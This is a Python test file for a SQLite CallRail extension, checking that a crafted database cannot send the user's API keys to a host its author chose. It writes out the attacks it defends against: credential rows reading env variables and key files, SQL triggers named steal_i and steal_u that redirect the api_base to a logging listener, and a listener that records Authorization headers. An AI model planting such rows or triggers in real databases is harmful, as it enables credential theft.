"""A database file written by someone else must never send the user's
secrets to a host the file chose.  Its callrail_credentials rows may name
any environment variable ('env:'), any 0600 file of the user ('file:') or the
'memory' key the user typed, with an api_base of the author's; its
destination may already be active.  A key is resolved only for a row that
this connection registered exactly as it is (source, api_base, ca_file), or
for CallRail's own api_base without a ca_file.  So in a fresh connection
callrail_accounts, callrail_send and callrail_test send nothing to the
author's listener (nor anywhere), each error names the credential and the
api_base, says that nothing was sent and shows the call that confirms it;
callrail_preview keeps working; once the user confirms the credential on
their own connection, it works."""
import http.server
import os
import threading
import urllib.error
import urllib.request

from helpers import run_cases

ACC1 = "ACC0000000000000000000000000000001"
SECRET = "test-token"  # the fake's token: the confirmed requests succeed


class Listener:
    """The author's server on loopback: logs every request (with its
    Authorization header) and forwards it to the fake, so that a request the
    user confirmed gets a real answer."""

    def __init__(self, fake_base):
        log = self.log = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def forward(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else None
                log.append((self.command, self.path, self.headers.get("Authorization")))
                req = urllib.request.Request(fake_base + self.path, data=body, method=self.command,
                                             headers={k: v for k, v in self.headers.items()
                                                      if k.lower() != "host"})
                try:
                    with urllib.request.urlopen(req, timeout=30) as r:
                        status, data = r.status, r.read()
                except urllib.error.HTTPError as e:
                    status, data = e.code, e.read()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_CONNECT(self):  # a proxied https attempt (see HTTPS_PROXY below)
                log.append(("CONNECT", self.path, None))
                self.send_error(403)

            do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = forward

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = "http://127.0.0.1:%d" % self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


DEST = ("SELECT callrail_destination('d', json_object('credential', '%%(cred)s',"
        " 'url', '/v3/a/%s/companies.json'));\n"
        "SELECT callrail_activate('d');\n" % ACC1)


def crafted(ctx, listener, cred, source, extra=""):
    """The author's database: credential `cred` from `source` with the
    author's api_base, an active destination `d` using it, plus `extra`."""
    ctx.sql("SELECT callrail_credential('%s', '%s', '%s');\n%s%s"
            % (cred, source, listener.base, DEST % {"cred": cred}, extra))


USES = [
    "SELECT id FROM callrail_accounts('%(cred)s');",
    "SELECT state FROM callrail_send('d', 'SELECT ''Leak Co'' AS name');",
    "SELECT json_extract(callrail_test('d', '{\"name\":\"Leak Test\"}'), '$.state');",
]


def uses(cred):
    return [u % {"cred": cred} for u in USES]


def assert_refused(outs, cred, base, confirm):
    """Each use failed with the rule's error, which says what to do."""
    for out in outs:
        assert 'credential "%s"' % cred in out and "api_base %s" % base in out, out
        assert "Nothing was sent" in out and confirm in out, out
        assert SECRET not in out, out


def victim_confirms(ctx, listener, prelude, cred, env=None):
    """The user confirms the credential on their own connection: every use
    reaches the listener, with the key."""
    outs = run_cases(ctx, prelude, uses(cred), env=env, one_each=True)
    assert outs == [ACC1 + "\n", "ok\n", "ok\n"], outs
    assert [a for _, _, a in listener.log] == ['Token token="%s"' % SECRET] * 3, listener.log


def check_path(ctx, source, env=None):
    listener = Listener(ctx.base)
    try:
        port = listener.base.rsplit(":", 1)[1]
        crafted(ctx, listener, "evil", source)
        outs = run_cases(ctx, "", uses("evil") + [
            "SELECT count(*) FROM callrail_preview('d', 'SELECT ''x'' AS name');"],
            env=env, one_each=True)
        assert_refused(outs[:3], "evil", "http://127.0.0.1:%s" % port,
                       "SELECT callrail_credential('evil', '%s', 'http://127.0.0.1:%s');"
                       % (source, port))
        assert outs[3] == "1\n", outs[3]
        assert listener.log == [] and ctx.fake.log() == [], listener.log
        victim_confirms(ctx, listener, "SELECT callrail_credential('evil', '%s', '%s');\n"
                        % (source, listener.base), "evil", env=env)
    finally:
        listener.close()


def test_crafted_env_credential_sends_nothing_to_the_authors_host_until_confirmed(ctx):
    check_path(ctx, "env:VICTIM_SECRET", env={"VICTIM_SECRET": SECRET})


def test_crafted_file_credential_sends_nothing_to_the_authors_host_until_confirmed(ctx):
    path = os.path.join(ctx.dir, "victim-key")
    with open(path, "w") as f:
        f.write(SECRET + "\n")
    os.chmod(path, 0o600)
    check_path(ctx, "file:" + path)


def test_memory_key_is_not_sent_where_a_trigger_moved_its_row(ctx):
    """The user types a key for the fake; a trigger of the file rewrites
    the row to the author's api_base: the key is refused, not sent."""
    listener = Listener(ctx.base)
    try:
        move = ("UPDATE callrail_credentials SET api_base = '%s' WHERE name = new.name;"
                % listener.base)
        crafted(ctx, listener, "fake", "env:UNUSED",
                "CREATE TRIGGER steal_i AFTER INSERT ON callrail_credentials BEGIN %s END;\n"
                "CREATE TRIGGER steal_u AFTER UPDATE OF source ON callrail_credentials BEGIN %s END;\n"
                % (move, move))
        outs = run_cases(ctx, ctx.setup_credential(), uses("fake"), one_each=True)
        assert ctx.rows("SELECT source, api_base FROM callrail_credentials") == [
            {"source": "memory", "api_base": listener.base}]
        assert_refused(outs, "fake", listener.base,
                       "SELECT callrail_credential('fake', '<key>', '%s');" % listener.base)
        assert listener.log == [] and ctx.fake.log() == [], listener.log
        # Without the trigger the user's own registration stands and works.
        outs = run_cases(ctx, "DROP TRIGGER steal_i;\nDROP TRIGGER steal_u;\n"
                         + ctx.setup_credential(), uses("fake"), one_each=True)
        assert outs == [ACC1 + "\n", "ok\n", "ok\n"], outs
        assert listener.log == [] and len(ctx.fake.log()) == 3, listener.log
    finally:
        listener.close()


def test_memory_row_of_another_api_base_does_not_get_the_typed_key(ctx):
    """A row 'memory' whose api_base differs from the one the key was typed
    for (changed by another process after the registration) is refused."""
    listener = Listener(ctx.base)
    try:
        outs = run_cases(ctx, ctx.setup_credential() + DEST % {"cred": "fake"}
                         + ".shell sqlite3 test.db \"UPDATE callrail_credentials SET api_base="
                         "'%s'\"\n" % listener.base, uses("fake"), one_each=True)
        assert_refused(outs, "fake", listener.base, "'<key>'")
        assert listener.log == [] and ctx.fake.log() == [], listener.log
    finally:
        listener.close()


def test_callrail_api_base_with_a_ca_file_of_the_file_is_refused(ctx):
    """CallRail's own api_base needs no confirmation, but not with a
    ca_file that the database chose (it could trust the author's
    certificate).  HTTPS_PROXY points libcurl at the listener, so that any
    attempt would show there instead of leaving the machine."""
    listener = Listener(ctx.base)
    try:
        ca = os.path.join(ctx.dir, "author-ca.pem")
        with open(ca, "w") as f:
            f.write("not a certificate\n")
        ctx.sql("SELECT callrail_credential('cr', 'env:VICTIM_SECRET', "
                "'https://api.callrail.com', '%s');\n" % ca)
        env = {"VICTIM_SECRET": SECRET, "HTTPS_PROXY": listener.base,
               "https_proxy": listener.base, "NO_PROXY": "", "no_proxy": ""}
        outs = run_cases(ctx, "", ["SELECT id FROM callrail_accounts('cr');"], env=env,
                         one_each=True)
        assert_refused(outs, "cr", "https://api.callrail.com:443",
                       "'https://api.callrail.com:443', '%s');" % ca)
        assert "with ca_file " + ca in outs[0], outs
        assert listener.log == [], listener.log
        # The rule can fail: without the ca_file, CallRail's origin is used
        # unconfirmed (the proxy shows the attempt; the tunnel is refused).
        ctx.sql("UPDATE callrail_credentials SET ca_file = NULL;\n")
        outs = run_cases(ctx, "", ["SELECT id FROM callrail_accounts('cr');"], env=env,
                         one_each=True)
        assert "Nothing was sent" not in outs[0], outs
        # (a read retries a refused connect: every attempt went there)
        assert listener.log and set(listener.log) == {("CONNECT", "api.callrail.com:443", None)}, (
            listener.log)
    finally:
        listener.close()
